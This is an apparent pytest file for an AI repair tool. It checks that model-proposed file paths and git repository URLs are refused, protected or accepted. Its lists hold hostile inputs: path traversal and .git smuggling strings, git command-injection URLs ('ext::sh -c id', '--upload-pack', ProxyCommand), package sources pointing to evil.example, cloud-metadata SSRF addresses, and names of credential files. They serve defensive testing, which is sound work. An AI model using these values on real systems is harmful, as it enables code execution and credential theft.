"""Paths and addresses: every attack is refused or protected, and every ordinary one is taken.

A path has two walls, the one that places a model's answer and the guard over the diff; an address has two as
well, the rules over what may be named and git's own door.
"""

import pytest

from ai_ops.core.code_blocks import Problem, Tree, resolve
from ai_ops.core.guard import Severity, review
from ai_ops.core.repository import RepositoryRules
from ai_ops.errors import PermanentError
from ai_ops.flow.repository import Repository
from ai_ops.vcs.git import GitClient
from tests.support.patches import diff, reader

BASE = {
    "src/app.py": "x = 1\n",
    "tests/test_app.py": "def test_x():\n    assert True\n",
    "link": "",
    "sub": "",
}
TREE = Tree({"src/app.py": 0o100644, "tests/test_app.py": 0o100644, "link": 0o120000, "sub": 0o160000})

REFUSED = [
    "../x.py", "src/../../x.py", "..\\x.py", "/etc/passwd", "/etc/cron.d/x", "//host/share/x",
    "C:\\Windows\\x.py", "~/.bashrc", "~root/x", ".git/config", ".GIT/config", ".Git/hooks/pre-push",
    "src/.git/config", "git~1/config", "GIT~1/hooks/x", ".git./config", ".git::$INDEX_ALLOCATION/config",
    ".git:x/config", ".g\u200cit/config", ".\u200dgit/config", ".gi\ufefft/config", "\uff0egit/config",
    "link", "link/x.py", "sub", "sub/x.py", "SRC/app.py", "Src/App.py", "src/nul", "src/con.py",
    "src/aux.txt", "src/com1", "src/app.py:stream", "src/x.", "src/x\u202eyp.py", "file:///etc/passwd",
    "src/\x00.py", "src/\x1b[2J.py", ".",
]  # fmt: skip
REFUSED += [".git /config", "src/x.py ", "src/a\nb.py", ""]

PROTECTED = [
    ".gitattributes", ".gitmodules", ".gitconfig", ".github/workflows/ci.yml", ".github/dependabot.yml",
    ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", "azure-pipelines.yml", ".travis.yml",
    ".buildkite/pipeline.yml", ".pre-commit-config.yaml", ".husky/pre-commit", "CODEOWNERS",
    "docs/CODEOWNERS", ".github/CODEOWNERS", ".claude/settings.json", ".claude/agents/x.md", ".mcp.json",
    "CLAUDE.md", "claude.md", "src/CLAUDE.md", "AGENTS.md", ".cursorrules", ".ai-ops.yml",
    ".vscode/tasks.json", ".idea/x.xml", ".devcontainer/devcontainer.json", ".envrc", ".env",
    ".env.production", "src/.env", ".npmrc", ".pypirc", ".netrc", "pip.conf", "server.pem", "id_rsa",
    ".ssh/authorized_keys", ".aws/credentials", "poetry.lock", "uv.lock", "package-lock.json", "yarn.lock",
    "go.sum", "pnpm-lock.yaml", "Cargo.lock", "Gemfile.lock", "conftest.py", "tests/conftest.py",
    "pytest.ini", "tox.ini", "sitecustomize.py", "x.pth", "setup.py", "Makefile", "build.rs", "pom.xml",
    "jest.config.js", "pytest.py", "os.py",
]  # fmt: skip
NEW_SOURCES = {
    "requirements.txt": "--index-url http://evil.example/\n",
    "requirements/dev.txt": "--extra-index-url=https://evil.example/simple\n",
    "requirements/prod.in": f"shop{' ' * 2000}\t-i https://evil.example/simple\n",
    "requirements-dev.txt": "shop @ https://evil.example/shop.whl\n",
    "setup.cfg": "[options]\ninstall_requires =\n    shop @ git+https://evil.example/shop\n",
    "pyproject.toml": '[[tool.uv.index]]\nurl = "https://evil.example/simple"\n',
    "package.json": '{"publishConfig": {"registry": "https://evil.example/"}}\n',
    "Gemfile": 'source "https://evil.example"\n',
}
ORDINARY = [
    "src/app.py", "./src/app.py", "a/src/app.py", "b/src/app.py", "/workspace/src/app.py", "src\\app.py",
    "src/new.py", "src/deep/er/new.py", "tests/test_new.py", "docs/guide.md", "README.md",
    "src/environment.py", "src/git.py", "src/gitx.py", "src/locker.py", "src/claude.py", "src/agents.py",
    "src/owners.py", "src/keys.py", "src/console.py", "src/auxiliary.py", "src/nulls.py", "legit/x.py",
    "src/\xfcn\xef.py", "config/settings.yaml", "templates/mail.html",
]  # fmt: skip


def placed(path):
    """Return where an answer's path leads; None when the whole answer is refused."""
    found = resolve(path, TREE)
    if isinstance(found, Problem):
        assert found.final
        return None
    return found.path


def blocked(folder, files):
    """Return the places for which a change is blocked."""
    after = BASE | files
    found = review(diff(folder, BASE, after), reader(BASE), reader(after))
    return {finding.place.partition(":")[0] for finding in found if finding.severity is Severity.BLOCKED}


@pytest.mark.parametrize("path", REFUSED, ids=ascii)
def test_a_path_that_leads_elsewhere_refuses_the_whole_answer(path):
    assert placed(path) is None


def test_every_path_that_steers_git_ci_agents_tests_or_packages_is_protected(tmp_path):
    assert [path for path in PROTECTED if placed(path) is None] == []
    assert set(PROTECTED) - blocked(tmp_path, dict.fromkeys(PROTECTED, "x = 1\n")) == set()


@pytest.mark.parametrize(("path", "text"), NEW_SOURCES.items(), ids=NEW_SOURCES)
def test_a_new_source_of_packages_is_blocked(tmp_path, path, text):
    assert blocked(tmp_path, {path: text}) == {path}


def test_every_ordinary_path_is_taken(tmp_path):
    where = {path: placed(path) for path in ORDINARY}
    assert None not in where.values()
    paths = [*where.values()]
    for half in (paths[::2], paths[1::2]):  # more files than a repair may change are no ordinary fix
        assert blocked(tmp_path, dict.fromkeys(half, "x = 2\n")) == set()


ADDRESSES = [
    "ext::sh -c touch% x", "EXT::sh -c id", "fd::7", "FD::7/x", "file:///etc", "FILE:///etc", "File://localhost/etc",
    "/etc", "../x", "-u", "--upload-pack=touch x", "-uhttps://github.com/acme/app",
    "https://github.com/acme/app --upload-pack=x", "https://github.com/acme/app -u x",
    "https://github.com/-u/app", "https://github.com/acme/--upload-pack=x", "https://-oProxyCommand=x/acme/app",
    "ssh://-oProxyCommand=x/acme/app", "-oProxyCommand=x@github.com:acme/app", "git@github.com:-u/app",
    "https://github.com/$USER/app", "https://$HOST/acme/app", "https://github.com/`id`/app",
    "https://github.com/acme/app\n-u", "https://github.com/acme/app\r\n", "https://github.com/acme/app\0",
    "https://github.com/acme/app\u2028x", "https://token@evil.example/acme/app",
    "https://x:token@github.com/acme/app", "https://github.com@evil.example/acme/app",
    "https://github.com#@evil.example/acme/app", "https://github.com\\.evil.example/acme/app",
    "https://github.com.evil.example/acme/app", "https://github.com:444/acme/app", "http://github.com/acme/app",
    "git://github.com/acme/app", "https://127.0.0.1/acme/app", "https://localhost/acme/app",
    "https://[::1]/acme/app", "https://[::ffff:127.0.0.1]/acme/app", "https://2130706433/acme/app",
    "https://0x7f.1/acme/app", "https://169.254.169.254/latest/meta-data",
    "https://metadata.google.internal/acme/app", "https://10.0.0.1/acme/app", "",
]  # fmt: skip
TAKEN = [
    "https://github.com/acme/app", "HTTPS://GitHub.com/acme/app.git", "git@github.com:acme/app.git",
    "ssh://git@github.com/acme/app", "https://github.com/acme/app.js/", "https://github.com/a-b/c_d.e",
]  # fmt: skip


@pytest.mark.parametrize("url", ADDRESSES, ids=ascii)
def test_an_address_that_is_not_a_repository_of_the_configured_host_is_refused(url):
    with pytest.raises(PermanentError):
        RepositoryRules().resolve(url)


@pytest.mark.parametrize("url", [url for url in ADDRESSES if not url.startswith("https://")], ids=ascii)
async def test_git_would_refuse_it_too(tmp_path, url):
    with pytest.raises(PermanentError, match="bad_repository_url"):
        await GitClient(tmp_path, lambda _: None).refresh(Repository("k", url, "github"))


@pytest.mark.parametrize("url", TAKEN)
def test_every_ordinary_address_is_taken(url):
    assert RepositoryRules().resolve(url).url.startswith("https://github.com/a")
